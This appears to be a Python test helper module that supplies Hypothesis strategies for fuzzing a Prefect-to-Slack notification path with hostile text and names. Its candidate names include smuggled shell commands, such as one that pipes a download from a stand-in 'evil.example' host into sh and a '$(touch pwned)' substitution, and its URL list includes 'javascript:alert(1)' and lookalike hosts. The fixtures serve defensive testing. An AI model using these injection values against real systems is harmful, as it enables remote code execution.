"""Hypothesis strategies for the classes of input issue 23 is about, and the two run profiles.

- `hostile_text()`: what anyone can type or name: Slack control sequences, Markdown and angle links
  to allowed and foreign hosts (nested, with `<`, `>`, `|` inside), backticks, entities, invisible
  and bidi characters, line breaks, secrets in several encodings.
- `candidate_names()`: a fixed-seed spread of names over everything a person can type; the tests
  create them on the real Prefect server, read the list back and keep only the names it took
  (`accepted_names`), so the name strategy is "what Prefect accepts", not what we guess it accepts.

Profiles: the normal suite runs a small derandomized profile (a fixed seed, a few dozen examples);
`make faults` sets HYPOTHESIS_PROFILE=faults for a larger, randomized one.
"""

from __future__ import annotations

import os
import random

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

_SUPPRESS = [HealthCheck.too_slow, HealthCheck.function_scoped_fixture, HealthCheck.data_too_large,
             HealthCheck.filter_too_much]
FAST = settings(derandomize=True, max_examples=30, deadline=None, suppress_health_check=_SUPPRESS,
                database=None)
LARGE = settings(max_examples=400, deadline=None, suppress_health_check=_SUPPRESS, database=None)
PROFILE = LARGE if os.environ.get("HYPOTHESIS_PROFILE") == "faults" else FAST


def few(count: int) -> settings:
    """PROFILE, with at most `count` examples in the normal suite (for end-to-end properties)."""
    return PROFILE if PROFILE is LARGE else settings(PROFILE, max_examples=count)


ALLOWED_URLS = ["https://docs.prefect.io/v3/concepts/", "https://docs.prefect.io", "http://prefect.io/x"]
FOREIGN_URLS = ["https://evil.example/approve", "https://docs.prefect.io.evil.example/", "mailto:a@evil.example",
                "https://user:pw@docs.prefect.io/", "javascript:alert(1)", "https://docs.prefect.io@evil.example/"]
ATOMS = ["<!channel>", "<!here>", "<!everyone>", "<!subteam^S0123ABCD>", "<@U0ADMIN>", "<@W0ADMIN|boss>",
         "<#C0GENERAL>", "<#C0GENERAL|general>", "&lt;!channel&gt;", "&amp;", "&", "<", ">", "|", "`", "```",
         "*", "_", "~", "[", "]", "(", ")", "\n", "\r", "\t", "\x00", "\x07", "\u200b", "\u202e", "\u2067",
         "\ufeff", "\u00a0", " ", "> ", "\\", "'", '"', "$(", ";", "%3E", "%0A"]
_URL = st.sampled_from(ALLOWED_URLS + FOREIGN_URLS)
_WORD = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=8)
_PIECE = st.deferred(lambda: st.one_of(
    st.sampled_from(ATOMS), _WORD, _URL,
    st.builds(lambda label, url, tail: f"[{label}]({url}{tail})", _WORD, _URL, st.sampled_from(ATOMS + [""])),
    st.builds(lambda url, tail, label: f"<{url}{tail}|{label}>", _URL, st.sampled_from(ATOMS + [""]), _WORD),
    st.builds(lambda inner: f"`{inner}`", _INNER),
    st.builds(lambda url, inner: f"<{url}|{inner}>", _URL, _INNER),
))
_INNER = st.lists(_PIECE, max_size=3).map("".join)


def hostile_text(max_pieces: int = 12) -> st.SearchStrategy[str]:
    """Text built from the pieces that break renderers, in any order and nesting."""
    return st.lists(_PIECE, min_size=1, max_size=max_pieces).map("".join)


_NAME_ALPHABET = ("abcxyz019-_.~ ?#%&/<>|;:'\"`$()[]{}*!@=+,\\^\n\t\r\u200b\u202e\u00e9\u4e2d\U0001f600"
                  "\x00\x1b\u2028")
NAMED_CANDIDATES = ["team?a", "hash#tag", "per%cent", "wpz..w3", "..", ".", "two words", "new\nline", "trail ",
                    " lead", "zero\u200bwidth", "rtl\u202eexe", "etl; curl -sL evil.example | sh", "tick`name",
                    "$(touch pwned)", "it's", 'say "hi"', "-n", "x\\y", "a/b", "a&b", "<!channel>", "ünï-codé",
                    "\U0001f600", "tab\tname", "ctl\x1bname", "line\u2028sep", "x" * 300]


def candidate_names(count: int = 40, seed: int = 23) -> list[str]:
    """Names a person could type, hostile on purpose: the named classes plus `count` seeded random ones."""
    rng = random.Random(seed)
    spread = ["".join(rng.choice(_NAME_ALPHABET) for _ in range(rng.randint(1, 24))) for _ in range(count)]
    return list(dict.fromkeys(NAMED_CANDIDATES + spread))


SECRETS = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=8, max_size=40)
